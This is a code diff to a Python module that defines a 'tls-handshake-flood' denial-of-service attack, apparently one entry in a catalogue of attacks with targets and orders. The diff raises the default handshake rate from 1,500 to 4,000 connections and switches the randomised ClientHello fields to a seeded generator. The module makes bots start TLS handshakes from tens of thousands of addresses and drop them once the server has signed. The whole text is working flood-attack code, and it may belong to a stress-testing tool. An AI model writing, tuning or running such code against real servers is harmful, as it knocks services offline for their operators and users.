@@ -3,7 +3,6 @@ bot. Bots greet, wait until the edge has answered with its signature, and leave;
 
 from __future__ import annotations
 
-import os
 import random
 import ssl
 
@@ -31,7 +30,7 @@ TLS_HANDSHAKE_FLOOD = Attack(
     name="tls-handshake-flood",
     unit=Unit.CONNECTIONS,
     summary="TLS handshakes left off when the edge has signed, from tens of thousands of addresses",
-    defaults=TlsHandshakeFlood(rate=1_500, sources=Sources.PREFIXES, v6_share=0.2, hold_s=0),
+    defaults=TlsHandshakeFlood(rate=4_000, sources=Sources.PREFIXES, v6_share=0.2, hold_s=0),
     sender=lambda order: own_sender(order, "tls_handshake_flood"),
 )
 
@@ -47,13 +46,13 @@ def greeting(host: str) -> bytes:
     raise AssertionError("a handshake without the other side")
 
 
-def renewed(hello: bytes) -> bytes:
+def renewed(hello: bytes, chosen: random.Random) -> bytes:
     """The same greeting of another client: with another random number and session."""
     fresh = bytearray(hello)
-    fresh[_RANDOM_AT : _RANDOM_AT + 32] = os.urandom(32)
+    fresh[_RANDOM_AT : _RANDOM_AT + 32] = chosen.randbytes(32)
     if hello[_SESSION_LENGTH_AT] == _SESSION_LENGTH:
         begin = _SESSION_LENGTH_AT + 1
-        fresh[begin : begin + _SESSION_LENGTH] = os.urandom(_SESSION_LENGTH)
+        fresh[begin : begin + _SESSION_LENGTH] = chosen.randbytes(_SESSION_LENGTH)
     return bytes(fresh)
 
 
@@ -64,7 +63,7 @@ def manner(order: Order, parameters: TlsHandshakeFlood) -> Manner:
     greetings = [greeting(order.target.host) for _ in range(GREETINGS)]
 
     def first(chosen: random.Random) -> bytes:
-        return renewed(chosen.choice(greetings))
+        return renewed(chosen.choice(greetings), chosen)
 
     return Manner(first=first, awaits=HANDSHAKE)
 
